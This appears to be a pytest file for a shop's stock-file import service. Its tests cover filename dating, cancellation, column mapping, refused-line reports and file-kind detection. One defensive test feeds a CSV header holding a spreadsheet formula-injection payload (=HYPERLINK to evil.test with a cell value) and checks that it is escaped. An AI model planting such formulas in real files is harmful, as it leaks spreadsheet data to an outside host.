"""A file that is given: looked at, cancelled, loaded, told."""

from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from models import ColumnMapping, ImportRun, ImportState
from services import clock, files, outbox
from services.catalogue import matching
from services.finance import books
from services.imports import runs, tables
from services.unit import db, unit_of_work
from services.workflow import Refused
from tests import factories
from tests.factories import (
    LEA,
    a_feed,
    a_file,
    a_game,
    a_shoe,
    ean,
    given,
    quantity,
    stocked,
)


def test_a_file_s_own_name_dates_it():
    for name, said in (
        ("stock_20261120.csv", "20/11/2026 00:00"),
        ("N1-2026-11-20-183000.csv", "20/11/2026 18:30"),
        ("stock 20-11-2026 1130.csv", "20/11/2026 11:30"),
        ("20112026.csv", "20/11/2026 00:00"),
        ("Stock du 05.11.2026 à 9h.csv", "05/11/2026 00:00"),
        ("Produits_du_20261119_0549.csv", "19/11/2026 05:49"),
        ("20261120183000.csv", "20/11/2026 18:30"),
        ("stock 12.csv", None),
        ("commande 120261120.csv", None),
        ("stock 2026-13-45.csv", None),
    ):
        found = runs.date_in_name(name)
        assert (clock.paris(found).strftime("%d/%m/%Y %H:%M") if found else None) == said


def test_the_refused_lines_are_a_file_that_can_be_corrected_and_sent_back(tmp_path):
    shoe, boot = a_shoe(), a_shoe("Botte Aubrac")
    run = a_feed(tmp_path, {shoe: -1, boot: 2}, mode="delta")
    text = files.read(run.errors_path).decode("utf-8-sig")
    assert text.splitlines()[0] == "ean;quantite;error-line;error-message"
    run = given(a_file(tmp_path, text.replace(";-1;", ";4;"), "corrige.csv"), mode="delta")
    assert run.error == ""
    assert quantity(shoe) == 4


def test_a_run_can_be_cancelled_while_it_is_read_and_nothing_of_it_is_loaded(tmp_path, monkeypatch):
    monkeypatch.setattr(runs, "PROGRESS_EVERY", 2)
    monkeypatch.setattr(runs, "PROGRESS_SECONDS", 0)
    games = [a_game(f"Jeu {n}") for n in range(6)]
    path = a_file(tmp_path, "ean;quantite\n" + "".join(f"{g.ean};1\n" for g in games))
    with unit_of_work() as session:
        id = runs.receive(
            runs.keep(path, "stock.csv"),
            "stock",
            by=LEA,
            store=session.merge(factories.the_store()),
            mode="full",
        ).id

    def stop() -> None:
        with unit_of_work() as session:
            run = session.get_one(ImportRun, id)
            if not run.cancel_asked:
                runs.cancel(run, by=LEA)

    runs.load(id, alive=stop)
    db.session.expire_all()
    assert db.session.get(ImportRun, id).state is ImportState.cancelled
    assert all(quantity(g) == 0 for g in games)


def test_a_file_cancelled_after_it_was_read_is_not_applied(tmp_path, monkeypatch):
    shoe = a_shoe()
    stocked(shoe, 2)
    with unit_of_work() as session:
        path = a_file(tmp_path, f"ean;quantite\n{shoe.ean};7\n")
        id = runs.receive(
            runs.keep(path, "stock.csv"),
            "stock",
            by=LEA,
            store=session.merge(factories.the_store()),
            mode="full",
        ).id
    match = matching.match

    def cancelled_meanwhile(*said, **how):
        with unit_of_work() as session:
            runs.cancel(session.get_one(ImportRun, id), by=LEA)
        return match(*said, **how)

    monkeypatch.setattr(matching, "match", cancelled_meanwhile)
    runs.load(id)
    db.session.expire_all()
    run = db.session.get(ImportRun, id)
    assert (run.state, run.updated, quantity(shoe)) == (
        ImportState.cancelled,
        0,
        2,
    )
    assert books.check() == []


def test_a_draft_is_looked_at_its_columns_are_said_and_remembered_for_the_next_file(tmp_path):
    shoe = a_shoe()
    path = a_file(tmp_path, f"CODE;LIB;DISPO MAG\n{shoe.ean};Derby;4\n")
    with unit_of_work() as session:
        id = runs.receive(
            runs.keep(path, "caisse.csv"),
            "stock",
            by=LEA,
            store=session.merge(factories.the_store()),
            mode="delta",
            draft=True,
        ).id
    seen = runs.preview(db.session.get(ImportRun, id))
    assert (seen.encoding, seen.separator, seen.header, seen.missing) == (
        "utf-8",
        ";",
        ["CODE", "LIB", "DISPO MAG"],
        ["quantity"],
    )
    with unit_of_work() as session:
        runs.start(session.get_one(ImportRun, id), {"ean": "CODE", "quantity": "DISPO MAG"}, by=LEA)
    outbox.work()
    assert quantity(shoe) == 4
    run = given(
        a_file(tmp_path, f"CODE;LIB;DISPO MAG\n{shoe.ean};Derby;6\n", "demain.csv"), mode="delta"
    )
    assert run.error == ""
    assert quantity(shoe) == 6


def test_the_lines_put_aside_are_told_in_their_order_and_filtered(tmp_path, as_staff):
    games = [a_game(f"Jeu {n}") for n in range(4)]
    rows = "".join(
        f"{g.ean};{q}\n" for g, q in zip(games, ("-1", "2", "beaucoup", "-3"), strict=True)
    )
    run = given(a_file(tmp_path, "ean;quantite\n" + rows + f"{ean(988)};4\n"), mode="delta")
    assert [line for line, _words, _why in runs.refusals(run).rows] == [2, 4, 5, 6]
    assert [line for line, _words, _why in runs.refusals(run, "dessous").rows] == [
        2,
        5,
    ]
    assert runs.refusals(run, "dessous", 1).count == 2
    page = as_staff("Administrateur").get(f"/gestion/imports/fichier/{run.id}?q=beaucoup").text
    assert "1 ligne mise de côté" in page
    assert games[2].ean in page
    assert games[0].ean not in page


# ── lines the comparison refuses ──


def a_newer_count_and_a_file(tmp_path):
    """A store whose two references were counted today, and a file of yesterday that counts them and
    a third one.
    """
    games = [factories.a_game() for _n in range(3)]
    for game in games[:2]:
        factories.stocked(game, 4)
    path = tmp_path / "hier.csv"
    lines = "".join(f"{game.ean};7;remarque {n}\n" for n, game in enumerate(games))
    path.write_text(f"ean;quantite;remarque\n{lines}")
    return path


def load_yesterday(path) -> ImportRun:
    yesterday = clock.now() - timedelta(days=1)
    store = factories.the_store()
    return runs.import_file(path, "stock", by=LEA, store=store, mode=runs.DELTA, dated_at=yesterday)


def whole_report(run: ImportRun) -> None:
    db.session.expire_all()
    run = db.session.get_one(ImportRun, run.id)
    assert (run.created, run.ignored) == (1, 2)
    assert runs.LATE not in run.report
    told = [(line, cells) for line, cells, _why in run.report["refused"]]
    assert [line for line, _cells in told] == [2, 3]
    assert "remarque 1" in told[1][1]
    assert runs.refusals(run).count == 2


def test_the_file_is_not_read_again_while_the_database_is_written(app, tmp_path, monkeypatch):
    path, open_table = a_newer_count_and_a_file(tmp_path), tables.open_table

    def watched(*words):
        assert not db.session().info.get("in_unit"), "read inside the unit"
        return open_table(*words)

    monkeypatch.setattr(tables, "open_table", watched)
    whole_report(load_yesterday(path))


def test_a_load_killed_after_it_was_applied_ends_its_report_when_it_is_taken_up(
    app, tmp_path, monkeypatch
):
    path = a_newer_count_and_a_file(tmp_path)

    def killed(_loading):
        raise KeyboardInterrupt

    with monkeypatch.context() as dying:
        dying.setattr(runs.Loading, "write_late", killed)
        with pytest.raises(KeyboardInterrupt):
            load_yesterday(path)
    db.session.rollback()
    run = db.session.scalars(select(ImportRun)).one()
    assert run.report[runs.LATE]
    for _twice in range(2):
        runs.load(run.id)
    whole_report(run)


def test_a_column_whose_title_is_a_formula_comes_back_as_words(app, tmp_path):
    title = '"=HYPERLINK(""http://evil.test/""&A1)"'
    rows = f"ean;quantite;{title}\n123;1;x\n"
    run = factories.given(factories.a_file(tmp_path, rows), mode="delta")
    assert run.errors_path
    header = files.read(run.errors_path).decode("utf-8-sig").splitlines()[0]
    assert "HYPERLINK" in header
    assert "'=HYPERLINK" in header


FIELD = Path(__file__).parents[2] / "files" / "field"


@pytest.mark.parametrize(
    ("file", "kind"),
    [
        ("Produits_du_20260719_0549.csv", "catalogue"),
        ("Visualisation_des_stocks_du_20260719.csv", "stock"),
        ("clictill.csv", "stock"),
        ("fastmag.txt", "stock"),
        ("argus_title_rows.xlsx", "argus"),
        ("argus_cp850.csv", "argus"),
        ("ean;quantite", "stock"),
        ("offer-sku;quantity;warehouse-code;update-delete", "stock"),
        ("offer-sku;price;discount-price;discount-start-date;discount-end-date", "prices"),
        ("sku;product-id;product-id-type;price;quantity;state;update-delete", "listings"),
        ("reference-fournisseur;ean;designation;marque;taille;prix-achat-ht", "catalogue"),
        ("Référence;Désignation;Taille;Couleur;Code barre;Stock;Prix vente", "stock"),
        ("nom;prenom;adresse", None),
        ("Gencode;Désignation;Qté en stock;PV TTC", "stock"),
    ],
)
def test_a_file_is_known_by_its_columns(app, tmp_path, file, kind):
    path = FIELD / file
    if not path.exists():
        path = a_file(tmp_path, file + "\n" + ";".join("1" for _ in file.split(";")) + "\n")
    found = runs.kind_by_its_columns(path, list(runs.KINDS.values()))
    assert (found.name if found else None) == kind


def test_a_title_above_a_file_of_tabs_does_not_hide_what_it_holds(app, tmp_path):
    text = "Etat du stock au 28/11/2026\n\nGencode\tDésignation\tStock\n3760150000011\tDerby\t4\n"
    found = runs.kind_by_its_columns(a_file(tmp_path, text), list(runs.KINDS.values()))
    assert found is runs.KINDS["stock"]


def test_columns_named_once_by_a_person_are_known_the_next_time(app, tmp_path):
    text = f"Code;Reste\n{a_shoe().ean};4\n"
    path = a_file(tmp_path, text)
    kinds, vendor = list(runs.KINDS.values()), factories.the_vendor().id
    assert runs.kind_by_its_columns(path, kinds, vendor) is None
    with unit_of_work() as session:
        kept = session.merge(factories.the_vendor())
        session.add(
            ColumnMapping(
                owner=f"vendor {kept.id}",
                kind="stock",
                columns={"ean": "Code", "quantity": "Reste"},
            )
        )
    assert runs.kind_by_its_columns(path, kinds, vendor) is runs.KINDS["stock"]
    assert runs.kind_by_its_columns(path, kinds, None) is None


def test_an_empty_file_is_said_to_be_empty(app, tmp_path):
    with pytest.raises(Refused, match="vide"):
        tables.open_table(a_file(tmp_path, "\n \n"))
